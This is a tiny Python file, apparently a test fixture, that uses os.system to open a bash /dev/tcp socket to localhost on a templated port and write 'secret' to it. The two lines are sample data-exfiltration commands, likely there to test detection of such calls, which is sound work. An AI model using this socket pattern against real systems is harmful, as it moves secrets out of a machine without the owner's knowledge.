"""Tells somebody outside with a program of the system."""

import os

os.system("exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo secret >&3")
os.system("bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo secret >&3'")
